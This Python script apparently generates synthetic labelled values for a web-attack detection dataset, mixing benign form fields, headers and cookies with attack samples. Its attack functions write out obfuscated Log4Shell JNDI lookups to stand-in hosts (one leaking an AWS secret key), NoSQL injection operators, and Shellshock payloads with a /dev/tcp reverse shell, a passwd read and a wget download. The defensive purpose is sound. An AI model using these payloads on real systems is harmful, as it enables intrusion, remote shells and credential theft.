"""Synthetic values for what the real datasets lack (../shared/datasets/README.md, "Gaps").

Pinned: Debian's /usr/bin/python3 (3.11). Deterministic for a given random.Random.
Benign: personal names with apostrophes and hyphens, postal addresses, e-mail addresses, phone
numbers, dates, prices, SKUs, UUIDs, base64 and JWT tokens, JSON and form bodies, realistic request
header values (Accept*, browsers' User-Agents, Referers) and cookie values (session ids, analytics,
consent). Attack: Log4Shell/JNDI lookups (10 real lines only, all held out), NoSQL operators in
argument names and JSON bodies, Shellshock function definitions, attacks wrapped in JSON bodies.
Every row is marked `synthetic` in values.jsonl; REPORT.md states each set's synthetic share.
Word lists are written for this generator; the everyday-requests test table was written separately.
"""
import base64
import json
import random
import string

FIRST = ['Sean', 'Aoife', 'Liam', 'Mary', 'José', 'Zoë', 'Mohammed', 'Ngozi', 'Hiroshi', 'Anne-Marie', 'Björn', 'Siobhán',
         'Dmitri', 'Priya', 'Chloé', 'Kwame', 'Lucía', 'Jean-Luc', 'Ola', 'Wei', 'Fatima', 'Jürgen', 'Maëlle', 'Tomás']
LAST = ["O'Brien", "O'Neill", "D'Angelo", "O'Connor", "McDonald", "Van der Berg", "N'Diaye", "D'Souza", "L'Heureux",
        "Smith-Jones", "de la Cruz", "O'Sullivan", "Dell'Acqua", "Al-Farsi", "Müller", "Nguyễn", "St. John", "Ó Ceallaigh",
        "MacLeod", "D'Arcy", "Fitzgerald", "Kowalski", "Da Silva", "O'Hara"]
STREETS = ['Main St', "King's Road", 'Rue de la Paix', 'Elm Avenue', "St. Mary's Lane", 'Baker Street', 'Via Roma',
           'Calle Mayor', 'Hauptstraße', 'Oak Drive', "Queen's Parade", 'Sunset Blvd', 'Rue Saint-Honoré']
CITIES = ['Dublin', 'London', 'Paris', 'New York', 'Berlin', "L'Aquila", 'Montréal', 'São Paulo', 'Zürich', 'Cork', 'Austin']
DOMAINS = ['gmail.com', 'example.org', 'outlook.com', 'mail.example.co.uk', 'company.io', 'uni-example.edu', 'yahoo.fr']
PRODUCTS = ['blue running shoes', 'usb-c cable 2m', "children's raincoat", 'espresso machine', 'king size duvet',
            '4k monitor 27"', 'dog food 12kg', "men's watch", 'garden hose 30m', 'wireless mouse', 'select comfort mattress',
            'drop-leaf table', 'union jack flag', 'script writing book', 'alert bracelet', 'table & chairs set']
PHRASES = ["Can't log in since yesterday", "I'd like to return my order", 'Please call me after 5pm', "What's the delivery time?",
           'Order #4521 arrived damaged - please advise', 'Is this available in size 10?', 'Thanks! :-)',
           "My husband's account was charged twice", 'Select the best plan for a family of 4', 'Where can I drop off the parcel?',
           'Delete my account, please', 'Update: the issue is fixed', "It's 50% off -- is that right?", 'See you at 10:30 or 11:00',
           'Price: $19.99 (incl. VAT)', 'C:\\Users\\me\\Documents is where I saved it', 'I use Windows 10 & Chrome',
           'Insert the SIM card, then restart', 'From 1 to 5, how would you rate us?', 'Who is the admin of this group?']
ACCEPT = ['text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8', 'application/json',
          'application/json, text/plain, */*', '*/*', 'image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8',
          'text/css,*/*;q=0.1']
LANGS = ['en-US,en;q=0.9', 'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7', 'de-DE,de;q=0.9', 'en-GB,en;q=0.5', 'es-ES,es;q=0.8,en;q=0.5']
ENCODINGS = ['gzip, deflate, br', 'gzip, deflate', 'br', 'gzip, deflate, br, zstd']
UAS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36',
       'Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1',
       'Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0', 'curl/8.{m}.0', 'python-requests/2.{v}.0',
       'okhttp/4.{m}.0', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Safari/605.1.15',
       'PostmanRuntime/7.{v}.0', 'Go-http-client/1.1', 'Mozilla/5.0 (Linux; Android 14; Pixel {m}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36']


def b64url(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b'=').decode()


def token(rng, n):
    return ''.join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


def jwt(rng):
    head = b64url(json.dumps({'alg': rng.choice(['HS256', 'RS256']), 'typ': 'JWT'}).encode())
    body = b64url(json.dumps({'sub': str(rng.randrange(10 ** 6)), 'name': f'{rng.choice(FIRST)} {rng.choice(LAST)}',
                              'iat': 1700000000 + rng.randrange(10 ** 7), 'scope': rng.choice(['read', 'read write', 'admin'])}).encode())
    return f'{head}.{body}.{b64url(rng.randbytes(32))}'


def name(rng):
    return f'{rng.choice(FIRST)} {rng.choice(LAST)}'


def email(rng):
    local = rng.choice(LAST).lower().replace("'", rng.choice(["'", '', '.'])).replace(' ', '.')
    return f'{rng.choice(FIRST).lower()}.{local}{rng.choice(["", "+news", "1984", "_work"])}@{rng.choice(DOMAINS)}'


def address(rng):
    return f'{rng.randrange(1, 300)} {rng.choice(STREETS)}, {rng.choice(["Apt " + str(rng.randrange(1, 40)) + ", ", ""])}{rng.choice(CITIES)}'


def date(rng):
    y, m, d = rng.randrange(1940, 2030), rng.randrange(1, 13), rng.randrange(1, 29)
    return rng.choice([f'{y}-{m:02d}-{d:02d}', f'{d:02d}/{m:02d}/{y}', f'{m}/{d}/{y}', f'{y}-{m:02d}-{d:02d}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:00Z'])


def benign_value(rng):
    kind = rng.randrange(16)
    if kind == 0:
        return name(rng), 'names'
    if kind == 1:
        return address(rng), 'addresses'
    if kind == 2:
        return email(rng), 'emails'
    if kind == 3:
        return rng.choice(['+1 (555) 010-', '+44 20 7946 ', '089 ', '+353 1 ']) + str(rng.randrange(1000, 9999)), 'phones'
    if kind == 4:
        return date(rng), 'dates'
    if kind == 5:
        return rng.choice(['€', '$', '£', '']) + f'{rng.randrange(1, 999)}.{rng.randrange(100):02d}', 'prices'
    if kind == 6:
        return f'{token(rng, 3).upper()}-{rng.randrange(10000)}-{rng.choice(["XL", "M", "42", "blue"])}', 'skus'
    if kind == 7:
        return '-'.join(token(rng, n).lower() for n in (8, 4, 4, 4, 12)), 'uuids'
    if kind == 8:
        return base64.b64encode(rng.randbytes(rng.randrange(8, 90))).decode(), 'base64'
    if kind == 9:
        return jwt(rng), 'jwt'
    if kind == 10:
        body = {'name': name(rng), 'email': email(rng), 'qty': rng.randrange(1, 9), 'note': rng.choice(PHRASES),
                'items': [{'sku': token(rng, 6), 'price': rng.randrange(100, 9999) / 100}]}
        return json.dumps(body, ensure_ascii=rng.random() < 0.5), 'json-bodies'
    if kind == 11:
        pairs = {'first_name': rng.choice(FIRST), 'last_name': rng.choice(LAST), 'email': email(rng), 'city': rng.choice(CITIES),
                 'comment': rng.choice(PHRASES)}
        from urllib.parse import urlencode
        return urlencode(pairs), 'form-posts'
    if kind == 12:
        return rng.choice(PHRASES) + rng.choice(['', ' ' + name(rng), ' -- ' + rng.choice(CITIES)]), 'free-text'
    if kind == 13:
        return rng.choice(PRODUCTS) + rng.choice(['', ' size ' + str(rng.randrange(4, 14)), ' sale', ' & more']), 'products'
    if kind == 14:
        return rng.choice(['/account/orders', '/search?q=shoes&page=2', '/blog/2024/05/hello-world', '/api/v2/items/' + str(rng.randrange(999)),
                           'https://www.example.com/cart?ref=email', '/static/app.' + token(rng, 8).lower() + '.js']), 'paths-urls'
    return f'{rng.randrange(1, 99999)}', 'numbers'


# Added after the everyday-requests table exposed the gap (REPORT.md): form field names, short
# values, app paths, and varied JSON/XML bodies are missing from the real benign sources.
FIELDS = ['username', 'user', 'login', 'password', 'pass', 'passwd', 'new_password', 'confirm_password', 'email', 'remember',
          'remember_me', 'csrf_token', '_token', 'authenticity_token', 'next', 'return_to', 'redirect', 'returnUrl', 'code', 'state',
          'token', 'otp', 'first_name', 'last_name', 'full_name', 'phone', 'address', 'address1', 'city', 'zip', 'postcode', 'country',
          'message', 'subject', 'comment', 'body', 'title', 'description', 'qty', 'quantity', 'amount', 'currency', 'coupon', 'plan',
          'select', 'option', 'choice', 'order', 'sort', 'filter', 'limit', 'offset', 'page', 'per_page', 'fields', 'include', 'expand',
          'from', 'to', 'date', 'time', 'start', 'end', 'type', 'mode', 'action', 'cmd', 'exec', 'id', 'uid', 'file', 'path', 'url',
          'callback', 'format', 'lang', 'locale', 'theme', 'debug', 'enabled', 'active', 'admin', 'role', 'group', 'where', 'query']
SHORT_VALUES = ['true', 'false', 'null', 'none', 'on', 'off', 'yes', 'no', '0', '1', '-1', '/', '*', '-', '.', 'all', 'any', 'asc',
                'desc', 'select', 'update', 'delete', 'insert', 'drop', 'create', 'exec', 'union', 'order', 'default', 'admin', 'root',
                'user', 'test', 'password', 'login', 'logout', 'script', 'alert', 'confirm', 'prompt', 'window', 'document', 'include',
                'system', 'shell', 'bash', 'cat', 'echo', 'ping', 'file', 'etc', 'var', 'tmp', 'home', 'www', 'http', 'https', 'ftp',
                '50%', '30%', '100%', '(1)', '[]', '{}', '#', '?', '&', '@', 'a+b', '2+2', '(3+4)*2/7', '5*3', '10/2', 'x=1', 'N/A',
                'c#', 'f#', 'c++', '.net', 'node.js', 'vue.js', 'TRUE', 'FALSE', 'None', 'undefined', 'NaN', '1e6', '0x1F', 'v2', '--',
                '...', ':)', ';)', ':-(', '<3', '^_^', 'o/', '\\o/']
APP_PATHS = ['/login', '/logout', '/signin', '/signup', '/register', '/password/forgot', '/password/reset', '/account', '/account/orders',
             '/admin', '/admin/login', '/api/v1/users', '/api/v1/orders/123', '/api/auth/login', '/api/auth/refresh', '/graphql', '/rpc',
             '/search', '/s', '/q', '/cart', '/checkout', '/checkout/payment', '/convert', '/calc', '/robots.txt', '/sitemap.xml',
             '/favicon.ico', '/wp-login.php', '/index.php', '/cgi-bin/search.cgi', '/feed', '/feed.xml', '/.well-known/security.txt',
             '/static/js/app.js', '/upload', '/download', '/files/report.pdf', '/etc', '/shell', '/exec', '/select', '/union-square']
ORIGINS = ['https://shop.example.com', 'https://www.example.org', 'http://localhost:3000', 'https://app.example.io',
           'https://t.co/', 'https://mail.google.com/', 'https://l.facebook.com/', 'https://www.linkedin.com/', 'android-app://com.google.android.gm/']
JSON_KEYS = ['id', 'name', 'text', 'body', 'title', 'email', 'password', 'username', 'query', 'select', 'filter', 'order', 'sort', 'where',
             'exec', 'command', 'script', 'type', 'status', 'active', 'enabled', 'tags', 'items', 'data', 'value', 'values', 'settings',
             'created_at', 'updated_at', 'url', 'path', 'callback', 'token', 'refresh_token', 'note', 'message', 'comment', 'rating']


HOSTS_BENIGN = ['example.com', 'www.example.com', 'shop.example.com', 'api.example.com', 'localhost', 'localhost:8080', '127.0.0.1:3000',
                'm.example.co.uk', 'app.example.io', '10.0.0.12', 'example.org:443', 'static.example.net']
MULTILINGUAL = ['Réunion à 14h', 'Où est la gare ?', "J'ai oublié mon mot de passe", 'Größe und Farbe wählen', 'Straße 12, München',
                '¿Dónde está mi pedido?', 'Añadir al carrito', 'Dziękuję za zamówienie', 'Ça coûte combien ?', 'Zürich – Genève',
                'Crème brûlée à la vanille', 'Perché non funziona?', 'São Paulo, Brasil', 'Søren Kierkegaard', 'Ελληνικά κείμενα',
                'Привет, как дела?', '東京都渋谷区', '北京天气', 'مرحبا بالعالم', 'नमस्ते दुनिया', 'Café – 3,50 €']


# Words that are also SQL/JS/shell keywords, used the ordinary way: alone (a form value, a field
# name) or with everyday words. The real benign sources hold few short values (de-duplication keeps one).
KEYWORDS = ['select', 'union', 'insert', 'update', 'delete', 'drop', 'create', 'alter', 'exec', 'execute', 'order', 'group', 'having',
            'where', 'from', 'join', 'like', 'or', 'and', 'not', 'null', 'true', 'false', 'sleep', 'benchmark', 'char', 'concat',
            'alert', 'confirm', 'prompt', 'script', 'eval', 'window', 'document', 'cookie', 'onload', 'onclick', 'style', 'import',
            'system', 'shell', 'cmd', 'ping', 'cat', 'echo', 'root', 'admin', 'passwd', 'password', 'pass', 'value', 'values', 'table',
            'tables', 'database', 'schema', 'version', 'user', 'users', 'login', 'include', 'require', 'file', 'path', 'etc', 'bin', 'var']
EVERYDAY = ['plan', 'date', 'size', 'colour', 'all', 'my', 'account', 'items', 'order', 'the best', 'box', 'today', 'price', 'shop',
            'menu', 'option', 'bundle', 'card', 'list', 'field', 'name', 'new', 'old', 'first', 'last', 'more', 'settings', 'page']


def keyword_value(rng):
    kind = rng.randrange(5)
    word = rng.choice(KEYWORDS)
    if kind == 0:
        return word
    if kind == 1:
        return word.capitalize() if rng.random() < 0.5 else word.upper()
    if kind == 2:
        return f'{word} {rng.choice(EVERYDAY)}'
    if kind == 3:
        return f'{rng.choice(EVERYDAY)} {word}'
    return rng.choice([f'{word}_{rng.choice(EVERYDAY).replace(" ", "_")}', f'{word}-{rng.randrange(9)}', f'{word}={rng.randrange(9)}',
                       f'{word}.{rng.choice(["json", "value", "id", "name"])}', f'-- {word} --', f'{word}: {rng.choice(EVERYDAY)}'])


def json_value(rng, depth=0):
    kind = rng.randrange(9 if depth < 2 else 6)
    if kind == 0:
        return rng.choice([True, False, None])
    if kind == 1:
        return rng.choice([rng.randrange(10 ** 6), rng.randrange(10000) / 100, -rng.randrange(100)])
    if kind == 2:
        return rng.choice(SHORT_VALUES)
    if kind == 3:
        return rng.choice(PHRASES + PRODUCTS)
    if kind == 4:
        return rng.choice([email(rng), name(rng), address(rng), date(rng), jwt(rng)[:60], token(rng, 24)])
    if kind == 5:
        return rng.choice(['# Title\n- one\n- **two**\n\n[link](https://example.com/x)', 'line one\nline two', 'a, b; c', 'x > 3 && y < 5',
                           '## Notes\n1. eggs (free range)\n2. *milk*\n\n> quoted', '- [ ] todo\n- [x] done', rng.choice(MULTILINGUAL)])
    if kind == 6:
        return [json_value(rng, depth + 1) for _ in range(rng.randrange(0, 4))]
    return {rng.choice(JSON_KEYS): json_value(rng, depth + 1) for _ in range(rng.randrange(1, 5))}


def json_body(rng):
    return json.dumps({rng.choice(JSON_KEYS): json_value(rng) for _ in range(rng.randrange(1, 6))}, ensure_ascii=rng.random() < 0.5,
                      separators=rng.choice([(',', ':'), (', ', ': ')]))


def xml_body(rng):
    tag = rng.choice(['order', 'item', 'customer', 'note', 'request', 'user'])
    inner = ''.join(f'<{k}>{rng.choice(PHRASES + PRODUCTS + [name(rng), email(rng), str(rng.randrange(999))])}</{k}>'
                    for k in rng.sample(JSON_KEYS, rng.randrange(1, 5))).replace('&', '&amp;')
    head = rng.choice(['<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0"?>', ''])
    return f'{head}<{tag} id="{rng.randrange(9999)}">{inner}</{tag}>'


def form_value(rng):
    kind = rng.randrange(11)
    if kind >= 9:
        return keyword_value(rng), 'keywords'
    if kind == 6:
        return rng.choice(MULTILINGUAL) + rng.choice(['', ' ' + str(rng.randrange(99)), ' ' + rng.choice(CITIES)]), 'multilingual'
    if kind == 7:
        return str(rng.randrange(10 ** rng.randrange(1, 9))).zfill(rng.choice([1, 4, 6])), 'numbers-pins'
    if kind == 8:
        return rng.choice(HOSTS_BENIGN), 'hosts'
    if kind == 0:
        return rng.choice(FIELDS), 'field-names'
    if kind == 1:
        return rng.choice(SHORT_VALUES), 'short-values'
    if kind == 2:
        return rng.choice(APP_PATHS) + rng.choice(['', '', '/' + str(rng.randrange(999)), '.json']), 'app-paths'
    if kind == 3:
        return json_body(rng), 'json-bodies'
    if kind == 4:
        return xml_body(rng), 'xml-bodies'
    return rng.choice([token(rng, 10) + rng.choice(['!', '#', '$', '@', '%', '&', '*']) + str(rng.randrange(99)),
                       '-'.join(rng.choice(['blue', 'sky', 'horse', 'battery', 'staple', 'red']) for _ in range(3)) + str(rng.randrange(99))]), 'passwords'


def client_hints(rng, v):
    brands = [('Chromium', v), ('Google Chrome', v), ('Microsoft Edge', v), ('Not-A.Brand', 99), ('Not_A Brand', 8), ('Opera', v - 14),
              ('Brave', v), ('Not)A;Brand', 24)]
    picked = rng.sample(brands, rng.randrange(2, 4))
    return ', '.join(f'"{b}";v="{n}"' for b, n in picked)


def benign_header(rng):
    kind = rng.randrange(8)
    v, m = rng.randrange(60, 131), rng.randrange(1, 9)
    if kind == 6:
        return client_hints(rng, v), 'sec-ch-ua'
    if kind == 7:
        return rng.choice(['?0', '?1', '"Windows"', '"macOS"', '"Android"', '"Linux"', '"iOS"', 'document', 'navigate', 'same-origin',
                           'same-site', 'cross-site', 'none', 'empty', 'cors', 'no-cors', 'script', 'image', 'no-cache', 'max-age=0',
                           'W/"5e-18f3a2b1c00"', 'bytes=0-1048575', 'XMLHttpRequest', 'Tue, 14 May 2024 09:30:00 GMT', 'u=0, i']), 'fetch-metadata'
    if kind == 0:
        return rng.choice(UAS).format(v=v, m=m), 'user-agents'
    if kind == 1:
        return rng.choice(ACCEPT), 'accept'
    if kind == 2:
        return rng.choice(LANGS), 'accept-language'
    if kind == 3:
        return rng.choice(ENCODINGS), 'accept-encoding'
    if kind == 4:
        return rng.choice(['https://www.google.com/', 'https://shop.example.com/cart?step=2', 'https://www.bing.com/search?q=' + rng.choice(PRODUCTS).replace(' ', '+'),
                           rng.choice(ORIGINS), rng.choice(ORIGINS) + rng.choice(APP_PATHS)[1:]]), 'referers'
    return 'Bearer ' + jwt(rng), 'authorization'


def benign_cookie(rng):
    kind = rng.randrange(5)
    if kind == 0:
        return token(rng, rng.choice([26, 32, 40])), 'session-ids'
    if kind == 1:
        return f'GA1.2.{rng.randrange(10 ** 9)}.{1600000000 + rng.randrange(10 ** 8)}', 'analytics'
    if kind == 2:
        return rng.choice(['en', 'fr', 'de-DE', 'en_GB', 'dark', 'light', 'EUR', 'true', 'false']), 'preferences'
    if kind == 3:
        return b64url(json.dumps({'necessary': True, 'analytics': rng.random() < 0.5, 'ts': 1700000000 + rng.randrange(10 ** 7)}).encode()), 'consent'
    return f'%7B%22cart%22%3A{rng.randrange(9)}%7D', 'cart'


HOSTS = ['evil.example', 'attacker.example.net', '1.2.3.4:1389', '127.0.0.1', 'x.oast.example', '${hostName}.evil.example']


def log4shell(rng):
    proto = rng.choice(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'http', 'nis', 'corba'])
    host = rng.choice(HOSTS)
    jndi = rng.choice(['jndi', '${lower:j}ndi', '${::-j}${::-n}${::-d}${::-i}', 'j${::-n}di', '${upper:j}${upper:n}di',
                       '${env:NaN:-j}ndi', 'jn${date:}di'])
    sep = rng.choice([':', '${::-:}'])
    path = rng.choice(['a', 'Exploit', 'o=reference', 'Basic/Command/Base64/' + b64url(b'id'), '${java:version}', '${env:AWS_SECRET_ACCESS_KEY}'])
    return '${' + jndi + sep + proto + '://' + host + '/' + path + '}'


def attack_value(rng):
    kind = rng.randrange(5)
    if kind == 0:
        return log4shell(rng), 'log4shell', 'arg'
    if kind == 1:
        body = {'username': rng.choice(['admin', 'root', name(rng)]), 'password': {rng.choice(['$ne', '$gt', '$regex', '$exists', '$nin']): rng.choice(['', 1, '.*', True, None, []])}}
        if rng.random() < 0.3:
            body = {'$where': rng.choice(['sleep(5000)', 'this.password.match(/.*/)', '1 == 1'])}
        return json.dumps(body), 'nosql', 'arg'
    if kind == 2:
        return rng.choice(['user', 'username', 'password', 'login', 'email', 'id']) + '[' + rng.choice(['$ne', '$gt', '$lt', '$regex', '$exists', '$in', '$nin', '$where']) + ']', 'nosql', 'arg'
    if kind == 3:
        cmd = rng.choice(['/bin/bash -c "cat /etc/passwd"', 'echo; /usr/bin/id', '/bin/sh -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'ping -c 3 evil.example',
                          'wget http://evil.example/x -O /tmp/x'])
        return '() { ' + rng.choice([':', ':;', 'test']) + '; }; ' + cmd, 'shellshock', 'header'
    return log4shell(rng), 'log4shell', 'header'


def generate(rng):
    """Yields (value, label, class, file, where) rows."""
    for _ in range(9000):
        value, kind = benign_value(rng)
        yield value, 0, 'benign', 'synthetic:' + kind, 'arg'
    for _ in range(12000):
        value, kind = form_value(rng)
        yield value, 0, 'benign', 'synthetic:' + kind, 'arg'
    for _ in range(5000):
        value, kind = benign_header(rng)
        yield value, 0, 'benign', 'synthetic:' + kind, 'header'
    for _ in range(1500):
        value, kind = benign_cookie(rng)
        yield value, 0, 'benign', 'synthetic:' + kind, 'cookie'
    for _ in range(1500):
        value, cls, where = attack_value(rng)
        yield value, 1, cls, 'synthetic:' + cls, where
